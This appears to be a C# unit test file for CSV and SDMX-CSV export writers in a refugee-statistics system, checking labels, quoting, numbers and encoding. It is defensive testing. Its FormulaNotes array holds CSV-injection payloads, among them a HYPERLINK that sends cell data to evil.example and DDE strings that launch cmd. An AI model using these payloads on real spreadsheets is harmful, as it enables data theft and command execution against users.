using System.Globalization;
using System.Text;
using Mirps.Observation.V1;
using MirpsExchange.Catalogue;
using MirpsExchange.Catalogue.Csv;
using MirpsExchange.Catalogue.Exports;

namespace MirpsExchange.UnitTests.Exports;

/// <summary>
/// The export writers, cell for cell: plain CSV in the import layout, SDMX-CSV 2.0.0 as its field
/// guide writes it (STRUCTURE, STRUCTURE_ID, ACTION, components; labels=both as "ID: Name"), quoting,
/// numbers, encoding and streaming.
/// </summary>
public class ExportWriterTests
{
    internal static readonly StandardCatalogue Catalogue = StandardCatalogue.LoadStandard();

    private static readonly ExportOptions Csv = new(ExportFormat.Csv);
    private static readonly ExportOptions Sdmx = new(ExportFormat.SdmxCsv);

    internal static string Export(ExportOptions options, params ExportRow[] rows)
    {
        var writer = new StringWriter();
        new ExportWriter(Catalogue, options).Write(writer, rows);
        return writer.ToString();
    }

    internal static ExportRow Row(
        string indicator, string area, string period, string sex, string age, string origin, double? value,
        ObservationStatus status = ObservationStatus.Normal, string note = "") =>
        new(indicator, area, period, sex, age, origin, value, status, note);

    private static string[] Lines(string text)
    {
        Assert.EndsWith("\r\n", text);
        return text[..^2].Split("\r\n");
    }

    [Fact]
    public void Plain_csv_without_labels_has_the_import_header_and_rows_with_crlf()
    {
        var text = Export(Csv,
            Row("REFUGEES", "BLZ", "2023", "_T", "_T", "_T", 240, note: "annual report"),
            Row("WORK_PERMITS", "GTM", "2023-Q2", "F", "", "_T", 270, ObservationStatus.Provisional),
            Row("REFUGEES", ExportRow.RegionalAggregate, "2023-01", "_T", "_T", "_T", null, ObservationStatus.Confidential));

        Assert.Equal(
            "indicator_code,country,period,sex,age,country_of_origin,application_type,decision_level,procedure_type,count_basis,country_of_destination," +
            "value,status,lower_bound,confidentiality,synthetic,note\r\n" +
            "REFUGEES,BLZ,2023,_T,_T,_T,,,,,,240,NORMAL,,,,annual report\r\n" +
            "WORK_PERMITS,GTM,2023-Q2,F,,_T,,,,,,270,PROVISIONAL,,,,\r\n" +
            "REFUGEES,MIRPS,2023-01,_T,_T,_T,,,,,,,CONFIDENTIAL,,,,\r\n",
            text);
        Assert.Equal(string.Join(",", ObservationCsv.Columns), Lines(text)[0]);
    }

    [Fact]
    public void Plain_csv_with_labels_puts_a_label_column_after_each_coded_column()
    {
        var english = Lines(Export(Csv with { Labels = ExportLabels.English },
            Row("WORK_PERMITS", "PAN", "2023", "M", "", "VEN", 12, ObservationStatus.Estimated)));
        var spanish = Lines(Export(Csv with { Labels = ExportLabels.Spanish },
            Row("WORK_PERMITS", "PAN", "2023", "M", "", "BES", 12, ObservationStatus.Estimated)));

        const string Header = "indicator_code,indicator_label,country,country_label,period,sex,sex_label,age,age_label," +
            "country_of_origin,country_of_origin_label,application_type,application_type_label,decision_level,decision_level_label," +
            "procedure_type,procedure_type_label,count_basis,count_basis_label,country_of_destination,country_of_destination_label," +
            "value,status,status_label,lower_bound,confidentiality,synthetic,note";
        Assert.Equal(Header, english[0]);
        Assert.Equal(Header, spanish[0]);
        Assert.Equal("WORK_PERMITS,Work permits issued to refugees and asylum-seekers,PAN,Panama,2023,M,Male,,,VEN," +
            "Venezuela,,,,,,,,,,,12,ESTIMATED,Estimated value,,,,", english[1]);
        Assert.Equal("WORK_PERMITS,Permisos de trabajo otorgados a personas refugiadas y solicitantes de asilo,PAN,Panamá,2023,M,Masculino,,,BES," +
            "\"Bonaire, San Eustaquio y Saba\",,,,,,,,,,,12,ESTIMATED,Valor estimado,,,,", spanish[1]);
    }

    [Fact]
    public void A_states_plain_export_without_labels_reads_back_through_the_import_reader()
    {
        Observation[] observations =
        [
            new() { IndicatorCode = "REFUGEES", Country = "BLZ", Period = "2023", Sex = "_T", Age = "_T", CountryOfOrigin = "_T", Value = 240, Status = ObservationStatus.Normal, Note = "MIRPS VI, \"240\"" },
            new() { IndicatorCode = "MEDIAN_PROCESSING_DAYS", Country = "PAN", Period = "2023-Q1", CountryOfOrigin = "_T", Value = 87.5, Status = ObservationStatus.Estimated },
        ];

        var batch = ObservationCsv.Read(new StringReader(Export(Csv, [.. observations.Select(ExportRow.From)])));

        Assert.Empty(batch.Errors);
        Assert.Equal(observations, batch.Observations);
    }

    [Fact]
    public void Sdmx_header_is_structure_structure_id_action_then_the_components()
    {
        Assert.Equal(
            "STRUCTURE,STRUCTURE_ID,ACTION,INDICATOR,REF_AREA,SEX,AGE,COUNTRY_OF_ORIGIN,APPLICATION_TYPE,DECISION_LEVEL,PROCEDURE_TYPE,COUNT_BASIS," +
            "COUNTRY_OF_DESTINATION,TIME_PERIOD,OBS_VALUE,OBS_STATUS,CONF_STATUS,LOWER_BOUND,SYNTHETIC,COMMENT_OBS",
            Lines(Export(Sdmx))[0]);
        Assert.Equal(
            "STRUCTURE,STRUCTURE_ID,ACTION,INDICATOR: Indicator,REF_AREA: Reference area,SEX: Sex,AGE: Age group," +
            "COUNTRY_OF_ORIGIN: Country of origin,APPLICATION_TYPE: Application type,DECISION_LEVEL: Decision level,PROCEDURE_TYPE: Procedure type," +
            "COUNT_BASIS: Count basis,COUNTRY_OF_DESTINATION: Country of destination,TIME_PERIOD: Time period,OBS_VALUE: Observation value," +
            "OBS_STATUS: Observation status,CONF_STATUS: Confidentiality status,LOWER_BOUND: Lower bound (the figure is at least the value)," +
            "SYNTHETIC: Illustrative figure (not an official statistic),COMMENT_OBS: Observation comment",
            Lines(Export(Sdmx with { Labels = ExportLabels.English }))[0]);
        Assert.Equal(
            "STRUCTURE,STRUCTURE_ID,ACTION,INDICATOR: Indicador,REF_AREA: Área de referencia,SEX: Sexo,AGE: Grupo de edad," +
            "COUNTRY_OF_ORIGIN: País de origen,APPLICATION_TYPE: Tipo de solicitud,DECISION_LEVEL: Instancia de decisión,PROCEDURE_TYPE: Tipo de procedimiento," +
            "COUNT_BASIS: Unidad de conteo,COUNTRY_OF_DESTINATION: País de destino,TIME_PERIOD: Período,OBS_VALUE: Valor de la observación," +
            "OBS_STATUS: Estado de la observación,CONF_STATUS: Estado de confidencialidad,LOWER_BOUND: Cota inferior (la cifra es al menos el valor)," +
            "SYNTHETIC: Cifra ilustrativa (no una estadística oficial),COMMENT_OBS: Comentario de la observación",
            Lines(Export(Sdmx with { Labels = ExportLabels.Spanish }))[0]);
    }

    [Fact]
    public void Sdmx_rows_name_the_dataflow_with_the_catalogue_version_and_action_I_and_write_Z_for_undeclared_dimensions()
    {
        var lines = Lines(Export(Sdmx,
            Row("WORK_PERMITS", "GTM", "2023-Q2", "F", "", "_T", 270),
            Row("MEDIAN_PROCESSING_DAYS", ExportRow.RegionalAggregate, "2023", "", "", "VEN", 87.5, ObservationStatus.Estimated, "median")));

        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,WORK_PERMITS,GTM,F,_Z,_T,_Z,_Z,_Z,_Z,_Z,2023-Q2,270,A,,,,", lines[1]);
        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,MEDIAN_PROCESSING_DAYS,MIRPS,_Z,_Z,VEN,_Z,_Z,_Z,_Z,_Z,2023,87.5,E,,,,median", lines[2]);
        Assert.Equal("2.1.0", Catalogue.Version);
    }

    [Fact]
    public void The_structure_id_comes_from_the_options_and_the_version_defaults_to_the_catalogues()
    {
        Assert.Equal("MIRPS:DF_MIRPS_PROTECTION(2.1.0)", Sdmx.StructureId(Catalogue));
        var custom = Sdmx with { DataflowAgency = "UNHCR", DataflowId = "DF_PANAMA", DataflowVersion = "2.1.0" };
        Assert.StartsWith("dataflow,UNHCR:DF_PANAMA(2.1.0),I,", Lines(Export(custom, Row("REFUGEES", "PAN", "2023", "_T", "_T", "_T", 1)))[1]);
    }

    [Fact]
    public void Sdmx_labels_go_in_the_same_cell_as_code_colon_space_name_for_coded_values_only()
    {
        var english = Lines(Export(Sdmx with { Labels = ExportLabels.English },
            Row("DECISIONS_RECOGNIZED", "PAN", "2023", "_T", "Y0T4", "BES", 131, ObservationStatus.Provisional, "CONARE, 8 sessions"),
            Row("IDPS", ExportRow.RegionalAggregate, "2023-03", "F", "_U", "", null, ObservationStatus.Confidential)));
        var spanish = Lines(Export(Sdmx with { Labels = ExportLabels.Spanish },
            Row("IDPS", ExportRow.RegionalAggregate, "2023-03", "F", "_U", "", null, ObservationStatus.Confidential)));

        Assert.Equal(
            "dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0): MIRPS standard catalogue of protection statistics,I," +
            "DECISIONS_RECOGNIZED: Decisions: refugee status recognized,PAN: Panama,_T: Total,Y0T4: 0-4 years," +
            "\"BES: Bonaire, Sint Eustatius and Saba\",_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,2023,131,P: Provisional value,,,,\"CONARE, 8 sessions\"",
            english[1]);
        Assert.Equal(
            "dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0): MIRPS standard catalogue of protection statistics,I," +
            "IDPS: Internally displaced persons,MIRPS: MIRPS region,F: Female,_U: Unknown age,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,2023-03,,C: Confidential value,,,,",
            english[2]);
        Assert.Equal(
            "dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0): Catálogo estándar MIRPS de estadísticas de protección,I," +
            "IDPS: Personas desplazadas internas,MIRPS: Región MIRPS,F: Femenino,_U: Edad desconocida,_Z: No aplicable,_Z: No aplicable,_Z: No aplicable,_Z: No aplicable,_Z: No aplicable,_Z: No aplicable,2023-03,,C: Valor confidencial,,,,",
            spanish[1]);
    }

    [Fact]
    public void A_code_the_catalogue_does_not_name_is_written_alone_even_with_labels()
    {
        var line = Lines(Export(Sdmx with { Labels = ExportLabels.English }, Row("NEW_INDICATOR", "USA", "2023", "X", "_T", "_T", 1)))[1];

        Assert.Contains(",I,NEW_INDICATOR,USA,X,_T: All ages,_T: All origins,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,_Z: Not applicable,2023,1,", line);
    }

    [Theory]
    [InlineData(ObservationStatus.Normal, "A", "NORMAL")]
    [InlineData(ObservationStatus.Provisional, "P", "PROVISIONAL")]
    [InlineData(ObservationStatus.Estimated, "E", "ESTIMATED")]
    [InlineData(ObservationStatus.Confidential, "C", "CONFIDENTIAL")]
    public void Statuses_map_to_sdmx_obs_status_codes_and_to_the_import_names(ObservationStatus status, string sdmx, string csv)
    {
        var row = Row("REFUGEES", "CRI", "2023", "_T", "_T", "_T", 5, status);

        Assert.EndsWith($",5,{sdmx},,,,", Lines(Export(Sdmx, row))[1]);
        Assert.EndsWith($",5,{csv},,,,", Lines(Export(Csv, row))[1]);
        Assert.Equal(sdmx, SdmxCsv.StatusCode(status));
        Assert.True(SdmxCsv.TryParseStatusCode(sdmx, out var parsed));
        Assert.Equal(status, parsed);
    }

    [Fact]
    public void A_withheld_value_is_an_empty_obs_value_beside_status_C()
    {
        var row = Row("REFUGEES", "HND", "2023", "F", "Y0T4", "SLV", null, ObservationStatus.Confidential);

        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,REFUGEES,HND,F,Y0T4,SLV,_Z,_Z,_Z,_Z,_Z,2023,,C,,,,", Lines(Export(Sdmx, row))[1]);
        Assert.Equal("REFUGEES,HND,2023,F,Y0T4,SLV,,,,,,,CONFIDENTIAL,,,,", Lines(Export(Csv, row))[1]);
    }

    [Theory]
    [InlineData("a, b", "\"a, b\"")]
    [InlineData("the \"240\" refugees", "\"the \"\"240\"\" refugees\"")]
    [InlineData("line one\nline two", "\"line one\nline two\"")]
    [InlineData("crlf\r\ninside", "\"crlf\r\ninside\"")]
    [InlineData(" spaces kept ", " spaces kept ")]
    public void Notes_are_quoted_by_rfc_4180_in_both_formats(string note, string written)
    {
        var row = Row("REFUGEES", "SLV", "2023", "_T", "_T", "_T", 1, note: note);

        foreach (var options in new[] { Csv, Sdmx, Csv with { Labels = ExportLabels.Spanish }, Sdmx with { Labels = ExportLabels.English } })
        {
            var text = Export(options, row);
            Assert.EndsWith("," + written + "\r\n", text);
            Assert.Equal(note, Assert.Single(ExportReader.Read(text)).Note);
        }
    }

    /// <summary>Texts a spreadsheet would run (OWASP's CSV injection list), and texts that genuinely start with a quote.</summary>
    internal static readonly string[] FormulaNotes =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for the report\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
        "\tx",
        "\r=1+1",
        "'already quoted",
        "''",
    ];

    public static TheoryData<string> Formulas() => new(FormulaNotes);

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_note_a_spreadsheet_would_run_is_written_after_a_quote_in_both_formats_and_reads_back_exactly(string note)
    {
        var row = Row("REFUGEES", "SLV", "2023", "_T", "_T", "_T", 1, note: note);

        foreach (var options in new[] { Csv, Sdmx, Csv with { Labels = ExportLabels.Spanish }, Sdmx with { Labels = ExportLabels.English } })
        {
            var text = Export(options, row);
            Assert.EndsWith("," + ObservationCsv.Quote("'" + note) + "\r\n", text);
            Assert.Equal(note, Assert.Single(ExportReader.Read(text)).Note);
        }
    }

    [Fact]
    public void Every_text_cell_is_neutralised_codes_and_labels_too_but_a_negative_value_stays_a_number()
    {
        // Nothing in the catalogue starts so, but a row is only data: the writer does not rely on where it came from.
        var row = Row("=1+1", "@A1", "2023", "+X", "-Y", "=Z", -5, note: "-minus");

        var csv = Lines(Export(Csv, row))[1];
        var sdmx = Lines(Export(Sdmx, row))[1];

        Assert.Equal("'=1+1,'@A1,2023,'+X,'-Y,'=Z,,,,,,-5,NORMAL,,,,'-minus", csv);
        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,'=1+1,'@A1,'+X,'-Y,'=Z,_Z,_Z,_Z,_Z,_Z,2023,-5,A,,,,'-minus", sdmx);
        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Csv, row))));
        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Sdmx, row))));
        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Sdmx with { Labels = ExportLabels.Spanish }, row))));
    }

    [Fact]
    public void A_states_plain_export_with_formula_notes_reads_back_through_the_import_reader_unchanged()
    {
        // A note a node accepts (no CR: the import reader turns a line break into \n, as notes hold line feeds only).
        var observations = FormulaNotes.Where(note => !note.Contains('\r')).Select((note, i) => new Observation
        {
            IndicatorCode = "REFUGEES", Country = "BLZ", Period = $"{2000 + i}", Sex = "_T", Age = "_T", CountryOfOrigin = "_T",
            Value = i, Status = ObservationStatus.Normal, Note = note,
        }).ToArray();
        var written = new StringWriter();
        ObservationCsv.Write(written, observations);

        var fromExport = ObservationCsv.Read(new StringReader(Export(Csv, [.. observations.Select(ExportRow.From)])));
        var fromWrite = ObservationCsv.Read(new StringReader(written.ToString()));

        Assert.Empty(fromExport.Errors);
        Assert.Equal(observations, fromExport.Observations);
        Assert.Empty(fromWrite.Errors);
        Assert.Equal(observations, fromWrite.Observations);
        Assert.Contains(",\"'=HYPERLINK(", written.ToString()); // quoted for its commas, neutralised inside the quotes
    }

    [Fact]
    public void Values_use_the_invariant_culture_whatever_the_current_one()
    {
        var previous = CultureInfo.CurrentCulture;
        var comma = (CultureInfo)CultureInfo.InvariantCulture.Clone();
        comma.NumberFormat.NumberDecimalSeparator = ",";
        comma.NumberFormat.NumberGroupSeparator = " ";
        try
        {
            CultureInfo.CurrentCulture = comma;
            var lines = Lines(Export(Sdmx,
                Row("MEDIAN_PROCESSING_DAYS", "MEX", "2023", "", "", "_T", 1234.5),
                Row("ASYLUM_APPLICATIONS", "MEX", "2023", "_T", "_T", "_T", 140_981),
                Row("MEDIAN_PROCESSING_DAYS", "MEX", "2024", "", "", "_T", 0.1)));

            Assert.EndsWith(",1234.5,A,,,,", lines[1]);
            Assert.EndsWith(",140981,A,,,,", lines[2]);
            Assert.EndsWith(",0.1,A,,,,", lines[3]);
        }
        finally
        {
            CultureInfo.CurrentCulture = previous;
        }
    }

    [Fact]
    public void A_stream_gets_utf8_without_a_byte_order_mark()
    {
        using var stream = new MemoryStream();
        new ExportWriter(Catalogue, Sdmx with { Labels = ExportLabels.Spanish }).Write(stream, [Row("REFUGEES", "PAN", "2023", "_T", "_T", "_T", 131)]);

        var bytes = stream.ToArray();
        Assert.Equal((byte)'S', bytes[0]);
        var text = Encoding.UTF8.GetString(bytes);
        Assert.Contains("PAN: Panamá", text);
        Assert.True(bytes.AsSpan().IndexOf("Panam\u00e1"u8) >= 0, "á is written as the two UTF-8 bytes C3 A1");
        Assert.True(stream.CanWrite, "the caller's stream stays open");
    }

    [Fact]
    public void Rows_are_written_as_they_are_enumerated_not_gathered_first()
    {
        var output = new StringWriter();
        var seen = new List<int>();
        IEnumerable<ExportRow> Rows()
        {
            for (var i = 0; i < 3; i++)
            {
                seen.Add(output.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
                yield return Row("REFUGEES", "BLZ", $"202{i}", "_T", "_T", "_T", i);
            }
        }

        new ExportWriter(Catalogue, Sdmx).Write(output, Rows());

        Assert.Equal([1, 2, 3], seen); // before each row is asked for, the header and every earlier row are out
    }

    [Fact]
    public async Task The_async_writer_writes_the_same_bytes_from_an_async_source()
    {
        ExportRow[] rows =
        [
            Row("REFUGEES", "BLZ", "2023", "_T", "_T", "_T", 240, note: "a, \"b\"\nc"),
            Row("IDPS", "HND", "2023-Q4", "M", "Y_GE60", "", null, ObservationStatus.Confidential),
        ];
        static async IAsyncEnumerable<ExportRow> Source(IEnumerable<ExportRow> rows)
        {
            foreach (var row in rows)
            {
                await Task.Yield();
                yield return row;
            }
        }
        var options = Sdmx with { Labels = ExportLabels.English };
        using var stream = new MemoryStream();

        await new ExportWriter(Catalogue, options).WriteAsync(stream, Source(rows));

        Assert.Equal(Export(options, rows), ExportWriter.Utf8.GetString(stream.ToArray()));
    }

    [Fact]
    public void Rows_no_reader_could_take_back_are_refused()
    {
        var writer = new ExportWriter(Catalogue, Sdmx);
        var good = Row("REFUGEES", "BLZ", "2023", "_T", "_T", "_T", 1);

        Assert.Contains("the period '2023Q1'", Assert.Throws<ArgumentException>(() => writer.WriteRow(TextWriter.Null, good with { Period = "2023Q1" })).Message);
        Assert.Contains("status", Assert.Throws<ArgumentException>(() => writer.WriteRow(TextWriter.Null, good with { Status = ObservationStatus.Unspecified })).Message);
        Assert.Contains("not a finite number", Assert.Throws<ArgumentException>(() => writer.WriteRow(TextWriter.Null, good with { Value = double.NaN })).Message);
        writer.WriteRow(TextWriter.Null, good);
    }

    [Fact]
    public void Catalogue_two_dimensions_and_attributes_are_written_and_read_back_in_both_formats()
    {
        var catalogue = MirpsExchange.TestShared.CatalogueTwoShape.Load();
        var row = Row("ASYLUM_APPLICATIONS", "MEX", "2023", "_T", "_T", "_T", 140_000, ObservationStatus.Estimated, "more than 140,000") with
        {
            Added = new Mirps.Log.AddedDimensions("NEW", "", "GOVERNMENT", "PERSONS", ""),
            Attributes = new Mirps.Log.ValueAttributes(true, ConfidentialityStatus.Free, true),
        };
        foreach (var options in new[] { Csv, Sdmx, Csv with { Labels = ExportLabels.English }, Sdmx with { Labels = ExportLabels.Spanish } })
        {
            var writer = new StringWriter();
            new ExportWriter(catalogue, options).Write(writer, [row]);
            Assert.Equal(row, Assert.Single(ExportReader.Read(writer.ToString())));
        }
        var sdmx = new StringWriter();
        new ExportWriter(catalogue, Sdmx).Write(sdmx, [row]);
        var lines = Lines(sdmx.ToString());
        // The catalogue defines the new dimensions, so the dataflow has them; an undeclared one is _Z.
        Assert.Equal("STRUCTURE,STRUCTURE_ID,ACTION,INDICATOR,REF_AREA,SEX,AGE,COUNTRY_OF_ORIGIN,APPLICATION_TYPE,DECISION_LEVEL,PROCEDURE_TYPE," +
            "COUNT_BASIS,COUNTRY_OF_DESTINATION,TIME_PERIOD,OBS_VALUE,OBS_STATUS,CONF_STATUS,LOWER_BOUND,SYNTHETIC,COMMENT_OBS", lines[0]);
        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(2.1.0),I,ASYLUM_APPLICATIONS,MEX,_T,_T,_T,NEW,_Z,GOVERNMENT,PERSONS,_Z,2023,140000,E,F,true,true," +
            "\"more than 140,000\"", lines[1]);
    }
}
